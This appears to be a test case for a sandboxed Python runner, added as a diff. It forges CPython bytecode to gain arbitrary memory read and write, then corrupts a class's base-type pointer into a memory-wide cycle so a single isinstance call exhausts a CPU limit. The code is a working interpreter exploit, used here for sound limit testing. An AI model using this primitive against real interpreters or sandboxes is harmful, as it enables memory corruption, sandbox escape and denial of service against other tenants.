@@ -1,0 +1,40 @@
+# The same, by way of all of memory: each step waits for memory that no cache holds. The CPU budget is over first.
+import opcode
+import struct
+import types
+
+RESUME, EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = (
+    opcode.opmap[name] for name in ("RESUME", "EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE")
+)
+BYTES_DATA, TUPLE_ITEMS, TYPE_BASE, TYPE_MRO = 16, 12, 128, 172
+
+
+def object_at(address):
+    pointer = struct.pack("<I", address)
+    index = ((id(pointer) + BYTES_DATA - (id(()) + TUPLE_ITEMS)) // 4) & 0x3FFFFFFF
+    high = [part for shift in (24, 16, 8) for part in (EXTENDED_ARG, index >> shift & 255)]
+    forged = bytes([RESUME, 0, *high, LOAD_CONST, index & 255, RETURN_VALUE, 0])
+    return types.FunctionType((lambda: 1).__code__.replace(co_code=forged, co_consts=()), {})()
+
+
+class Ring:
+    pass
+
+
+header = struct.pack("<IIIIIII", 1 << 30, id(bytearray), 1 << 30, 1 << 30, 0, 0, 0)
+memory = object_at(id(header) + BYTES_DATA)
+ring, room = Ring(), bytearray(90 << 20)
+# The data of a bytearray begins somewhere behind its pointer to it, at offset 20.
+(first,) = struct.unpack_from("<I", memory, id(room) + 20)
+step, count = 4096 + 64, (90 << 20) // (4096 + 64) - 1
+place = [first + n * 7919 % count * step for n in range(count)]
+for here, there in zip(place, place[1:] + place[:1]):
+    struct.pack_into("<I", memory, here + TYPE_BASE, there)
+struct.pack_into("<I", memory, id(Ring) + TYPE_BASE, place[0])
+struct.pack_into("<I", memory, id(Ring) + TYPE_MRO, 0)
+print("before", end="", flush=True)
+isinstance(ring, int)
+#> class: "peer denial of service"
+#> outcome: ["cpu_limit"]
+#> stdout_starts: "before"
+#> limits: {"max_cpu_seconds": 0.6}
